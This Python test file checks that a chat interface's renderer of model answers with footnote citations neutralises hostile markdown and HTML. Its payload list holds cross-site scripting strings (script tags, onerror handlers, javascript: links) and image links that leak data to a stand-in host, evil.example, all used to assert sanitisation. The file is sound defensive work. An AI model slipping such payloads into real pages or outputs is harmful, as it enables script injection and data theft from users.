"""What a model writes is text: it cannot load, run, forge a footnote or take one over."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.chat.pages.shapes import note, rendered, sentence, turn

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/",
    "<https://evil.example>",
    "https://evil.example/auto",
    "[1]\n\n[1]: https://evil.example/",
    "[1]: https://evil.example/ 'title'\n\nWeeks are paid. [1]",
    "[1](https://evil.example)",
    '[x](https://evil.example "onmouseover=alert(1)")',
    "[x](<https://evil.example> onclick=alert(1))",
    "<p style='position:fixed'>x</p>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    '"><script>alert(1)</script>',
    "\x00<script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\U0001d0001\U0001d00f\U0001d0027\U0001d00f forged signs \U0001d0010\U0001d00f",
]
ALLOWED = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "class", "data-support", "href", "id", "rel", "role", "scope", "start",
    "tabindex",
}  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.hrefs: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        assert {name for name, _ in attrs} <= ATTRIBUTES, attrs
        given = dict(attrs)
        if tag == "a":
            self.hrefs.append((given.get("class") or "", given.get("href") or ""))
        if tag not in {"br", "hr"}:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        assert self.stack, f"</{tag}> closes nothing"
        assert self.stack.pop() == tag


def read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    assert not reader.stack
    return reader


def check(html: str) -> None:
    for kind, href in read(html).hrefs:
        if kind == "mark":
            assert re.fullmatch(r"#n1-\d+", href)
        elif kind == "obelus":
            assert re.fullmatch(r"#n1-(?:x|\d+)", href)
        else:
            assert href == "" or not re.match(r"(?i)\s*(javascript|data|vbscript):", href)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_as_text_and_plain_links(text):
    for body in (text, f"Paid. [1] {text} Then more. [2]", f"- {text}\n- and [1]"):
        html = rendered(
            turn(body, [note(1), note(2)], [sentence(0, len(body), [1], "unsupported")])
        )
        check(html)


@given(st.text(alphabet="ab .*_`[]()<>!#|-\n1\"'\\&;:/\U0001d000\U0001d00f", max_size=120))
def test_no_text_at_all_breaks_out(text):
    spans = [
        sentence(0, len(text) // 2, [1]),
        sentence(len(text) // 2, len(text), [], "unsupported"),
    ]
    check(rendered(turn(text, [note(1)], spans)))


def test_a_reference_definition_cannot_take_over_our_marks():
    html = rendered(turn("Fully paid. [1]\n\n[1]: https://evil.example/", [note(1)]))
    assert [href for kind, href in read(html).hrefs if kind == "mark"] == ["#n1-1", "#n1-1"]
    assert ("", "https://evil.example/") not in read(html).hrefs


def test_a_number_without_a_citation_stays_text():
    html = rendered(turn("Paid. [1] In full. [7]", [note(1)]))
    assert "[7]" in html
    assert html.count('class="mark"') == 1


def test_an_image_is_never_loaded():
    html = rendered(turn("![chart](https://evil.example/?q=secret)", []))
    assert "<img" not in html


def test_a_link_of_the_model_to_a_host_that_is_not_allowed_is_none():
    html = rendered(turn("See [the policy](https://evil.example/path).", []))
    assert {href for _, href in read(html).hrefs} <= {""}


def test_a_link_of_the_model_shows_where_it_goes(settings):
    settings.LINK_HOSTS = ["evil.example"]
    html = rendered(turn("See [the policy](https://evil.example/path).", []))
    assert '<span class="host">(evil.example)</span>' in html
    assert 'rel="nofollow noopener noreferrer"' in html


def test_sixty_thousand_times_one_character_is_rendered_in_time():
    for character in "[*_`|>-# (\\":
        text = character * 60_000
        start = time.monotonic()
        rendered(turn(text, [note(1)], [sentence(0, len(text), [1])]))
        assert time.monotonic() - start < 3, character
